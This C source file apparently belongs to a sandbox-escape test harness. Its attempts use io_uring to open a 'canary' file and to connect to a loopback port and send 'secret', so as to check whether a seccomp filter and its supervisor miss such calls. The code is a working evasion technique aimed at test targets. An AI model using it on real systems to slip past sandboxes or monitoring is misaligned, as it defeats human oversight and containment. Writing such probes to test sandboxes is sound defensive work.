/* io_uring does calls on the process's behalf, where neither a filter nor its supervisor sees them. */
#include "attack.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/socket.h>

struct ring {
  int fd;
  struct io_uring_params parameters;
  char *submissions, *completions;
  struct io_uring_sqe *entries;
};

static int open_ring(struct ring *ring) {
  memset(ring, 0, sizeof *ring);
  ring->fd = (int)syscall(SYS_io_uring_setup, 4, &ring->parameters);
  if (ring->fd < 0) return -1;
  const struct io_sqring_offsets *sq = &ring->parameters.sq_off;
  const struct io_cqring_offsets *cq = &ring->parameters.cq_off;
  size_t sq_size = sq->array + ring->parameters.sq_entries * sizeof(unsigned);
  size_t cq_size = cq->cqes + ring->parameters.cq_entries * sizeof(struct io_uring_cqe);
  size_t entries_size = ring->parameters.sq_entries * sizeof(struct io_uring_sqe);
  int access = PROT_READ | PROT_WRITE;
  ring->submissions = mmap(NULL, sq_size, access, MAP_SHARED, ring->fd, IORING_OFF_SQ_RING);
  ring->completions = mmap(NULL, cq_size, access, MAP_SHARED, ring->fd, IORING_OFF_CQ_RING);
  ring->entries = mmap(NULL, entries_size, access, MAP_SHARED, ring->fd, IORING_OFF_SQES);
  return ring->submissions == MAP_FAILED || ring->completions == MAP_FAILED || ring->entries == MAP_FAILED ? -1 : 0;
}

/* Submits one entry and waits for its result: a descriptor or a count, or -1 with errno. */
static int submit(struct ring *ring, const struct io_uring_sqe *entry) {
  unsigned *tail = (unsigned *)(ring->submissions + ring->parameters.sq_off.tail);
  unsigned *array = (unsigned *)(ring->submissions + ring->parameters.sq_off.array);
  unsigned *head = (unsigned *)(ring->completions + ring->parameters.cq_off.head);
  struct io_uring_cqe *results = (struct io_uring_cqe *)(ring->completions + ring->parameters.cq_off.cqes);
  unsigned slot = *tail & (ring->parameters.sq_entries - 1);
  ring->entries[slot] = *entry;
  array[slot] = slot;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -1;
  int result = results[*head & (ring->parameters.cq_entries - 1)].res;
  __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
  if (result < 0) return errno = -result, -1;
  return result;
}

static int uring_open(void) {
  struct ring ring;
  if (open_ring(&ring) != 0) return failed("io_uring_setup");
  struct io_uring_sqe entry = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .open_flags = O_RDONLY};
  entry.addr = (uint64_t)(uintptr_t)param("canary");
  int fd = submit(&ring, &entry);
  if (fd < 0) return failed("io_uring-openat");
  char buffer[40];
  ssize_t length = read(fd, buffer, sizeof buffer);
  return length > 0 ? succeeded("first bytes: %s", printable(buffer, (size_t)length)) : failed("read");
}

static int uring_connect(void) {
  struct ring ring;
  if (open_ring(&ring) != 0) return failed("io_uring_setup");
  struct io_uring_sqe make = {.opcode = 45 /* IORING_OP_SOCKET, 5.19 */, .fd = AF_INET, .off = SOCK_STREAM};
  int fd = submit(&ring, &make);
  if (fd < 0) return failed("io_uring-socket");
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)number_param("tcp"))};
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  struct io_uring_sqe reach = {.opcode = IORING_OP_CONNECT, .fd = fd, .off = sizeof address};
  reach.addr = (uint64_t)(uintptr_t)&address;
  if (submit(&ring, &reach) < 0) return failed("io_uring-connect");
  char buffer[40];
  if (write(fd, "secret", 6) != 6) return failed("write");
  ssize_t length = read(fd, buffer, sizeof buffer);
  return length > 0 ? succeeded("reply: %s", printable(buffer, (size_t)length)) : failed("read");
}

const struct attempt uring_attempts[] = {
    {"uring-open", uring_open},
    {"uring-connect", uring_connect},
    {NULL, NULL},
};
